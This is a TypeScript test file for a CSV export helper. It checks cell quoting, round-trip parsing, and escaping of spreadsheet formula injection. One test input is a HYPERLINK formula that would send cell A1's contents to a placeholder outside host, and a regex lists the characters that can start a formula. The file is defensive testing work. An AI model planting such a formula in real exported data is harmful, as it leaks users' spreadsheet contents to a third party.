import * as fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { expect, test } from 'vitest';
import { cellOf, csvRecord, textOfCell } from './csv.ts';
import { forAll, testAll } from '../test/support/properties.ts';

test('quotes only what needs it', () => {
  expect(csvRecord(['rui', 'রুই', 85.5, 'a,b', 'say "hi"', ' x', ''])).toBe('rui,রুই,85.5,"a,b","say ""hi"""," x",\r\n');
});

testAll(
  'is read as what was written',
  fc.array(fc.string({ unit: 'grapheme' }), { minLength: 2, maxLength: 5 }),
  (values) => {
    expect(parse(csvRecord(values))).toEqual([values]);
  },
);

test('no cell begins a formula, and each is read as what was written', () => {
  expect(cellOf('=HYPERLINK("https://elsewhere.example/?"&A1)')).toBe('\'=HYPERLINK("https://elsewhere.example/?"&A1)');
  expect(cellOf('Rui = rohu')).toBe('Rui = rohu');
  // Else a spreadsheet makes 1711000101 of it.
  expect(cellOf('01711000101')).toBe("'01711000101");
  for (const number of ['0', '0.5', '10']) expect(cellOf(number)).toBe(number);
  expect(cellOf('Rui;=1+1,-2\t@a\n+b')).toBe("Rui;'=1+1,'-2\t'@a\n'+b");
  const begin = fc.stringMatching(/^['=+@＝－;,\t-]{0,6}0?\d?$/);
  forAll(begin, fc.string(), (start, end) => {
    const text = start + end;
    expect(cellOf(text)).not.toMatch(/(?:^|[,;\t\r\n])[=+\-@＝＋－＠]/);
    expect(textOfCell(cellOf(text))).toBe(text);
  });
});
